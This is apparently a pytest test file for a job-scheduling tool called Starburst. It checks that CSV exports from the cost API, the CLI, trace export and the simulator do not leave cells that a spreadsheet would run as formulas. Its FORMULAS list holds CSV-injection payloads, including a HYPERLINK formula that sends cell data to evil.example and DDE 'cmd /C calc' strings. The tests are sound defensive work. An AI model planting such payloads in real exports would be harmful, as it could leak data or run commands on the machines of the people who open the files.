"""No CSV Starburst writes runs as a formula in a spreadsheet (issue 38, finding 6).

Project names, job names, users and teams are chosen by users; finance opens the CSVs in a
spreadsheet. Before the fix ``GET /v1/costs?format=csv``, ``starburst costs -o csv``, the
trace of ``history export`` and the simulator's CSVs wrote ``=HYPERLINK(...)``, ``@SUM(...)``,
``+...`` and ``-...`` cells as they were. Cost reports run on a real PostgreSQL.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from dataclasses import dataclass
from decimal import Decimal
from pathlib import Path

import pytest
from typer.testing import CliRunner

from starburst import spreadsheet
from starburst.adapters.db.store import SqlStore
from starburst.api import create_app
from starburst.cli.main import build_app
from starburst.core.job import Job
from starburst.core.records import CostEntry, JobSpec, Role
from starburst.settings import Settings
from starburst.sim.table import write_csv
from starburst.sim.trace import load_trace, write_trace
from tests.api.conftest import LiveServer
from tests.support import http
from tests.support.databases import upgrade
from tests.support.postgres import drop_database, fresh_database

#: what the attack pass submitted as project names (and a harmless negative-looking one)
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "'=1+1",  # already quoted by hand: must not read as the formula once unquoted
]


def runs_as_formula(value: str) -> bool:
    """What a spreadsheet runs: a cell starting ``= + - @`` (tab, CR) that is no number."""
    if value[:1] not in ("=", "+", "-", "@", "\t", "\r"):
        return False
    try:
        float(value)
    except ValueError:
        return True
    return False


@dataclass
class Served:
    store: SqlStore
    url: str
    finance: str


@pytest.fixture(scope="module")
def served(postgres_url: str) -> Iterator[Served]:
    database = fresh_database(postgres_url, "csvcells")
    upgrade(database)
    store = SqlStore.open(database)
    store.accounts.save_user("fin")
    finance = store.accounts.issue_token("fin", Role.FINANCE).secret
    now = 1_790_000_000.0
    for i, project in enumerate(FORMULAS):
        job = store.submissions.submit(
            JobSpec(gpus=1, user="alice", team="ml", name=project, extra={"project": project})
        ).job.id
        amount = Decimal("1.25") + i
        store.ledger.record_costs([CostEntry(job, now - 7200, now - 3600, amount, "aws")])
    server = LiveServer(create_app(Settings(database_url=database), store, auth=True)).start()
    try:
        yield Served(store, server.url, finance)
    finally:
        server.stop()
        store.close()
        drop_database(database)


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _check_report(text: str) -> None:
    rows = _cells(text)
    assert rows[0][0] == "project"
    assert not [c for row in rows for c in row if runs_as_formula(c)]
    projects = {row[0] for row in rows[1:]}
    assert projects == {spreadsheet.cell(p) for p in FORMULAS}
    assert {spreadsheet.restore(p) for p in projects} == set(FORMULAS)


def test_the_cost_report_csv_runs_no_formula(served: Served) -> None:
    with http.client(base_url=served.url, timeout=30) as client:
        answer = client.get(
            "/v1/costs",
            params={"by": "project", "format": "csv", "since": "2026-01-01"},
            headers={"Authorization": f"Bearer {served.finance}"},
        )
    assert answer.status_code == 200, answer.text
    _check_report(answer.text)


def test_starburst_costs_o_csv_runs_no_formula(served: Served) -> None:
    args = ["costs", "--by", "project", "-o", "csv", "--since", "2026-01-01"]
    args += ["--server", served.url, "--token", served.finance]
    result = CliRunner().invoke(build_app(args), args, env={}, catch_exceptions=False)
    assert result.exit_code == 0, result.stderr
    _check_report(result.stdout)


def test_a_trace_export_runs_no_formula_and_reads_back_unchanged(tmp_path: Path) -> None:
    jobs = [
        Job(id=f"j{i}", submit_time=float(i), runtime=60.0, gpus=1, name=text, user="-u")
        for i, text in enumerate(FORMULAS)
    ]
    path = tmp_path / "trace.csv"
    write_trace(jobs, path)
    assert not [c for row in _cells(path.read_text()) for c in row if runs_as_formula(c)]
    back = load_trace(path)
    assert [(j.name, j.user) for j in back] == [(t, "-u") for t in FORMULAS]


def test_simulation_results_run_no_formula(tmp_path: Path) -> None:
    path = tmp_path / "results.csv"
    write_csv([{"label": "=1+1", "cloud_cost_usd": -0.5, "note": "@x"}], path)
    rows = _cells(path.read_text())
    assert rows == [["label", "cloud_cost_usd", "note"], ["'=1+1", "-0.5", "'@x"]]


def test_numbers_stay_numbers_and_text_round_trips() -> None:
    """A refund of -0.50 in an amount column sums as money; only text is quoted."""
    assert [spreadsheet.cell(v) for v in ("-0.50", "+3", "1e-3", -2, Decimal("-1.5"))] == [
        "-0.50",
        "+3",
        "1e-3",
        -2,
        Decimal("-1.5"),
    ]
    for text in [*FORMULAS, "\tx", "\r=1", "-", "''=x", "plain", "", "'"]:
        assert spreadsheet.restore(str(spreadsheet.cell(text))) == text
        assert not runs_as_formula(str(spreadsheet.cell(text)))


def test_no_writer_of_the_product_uses_the_csv_module_directly() -> None:
    """Every CSV goes through ``starburst.spreadsheet`` (one function for all writers)."""
    root = Path(spreadsheet.__file__).parent
    offenders = [
        str(p.relative_to(root))
        for p in root.rglob("*.py")
        if p.name != "spreadsheet.py"
        and ("csv.writer(" in (text := p.read_text()) or "csv.DictWriter(" in text)
    ]
    assert offenders == []
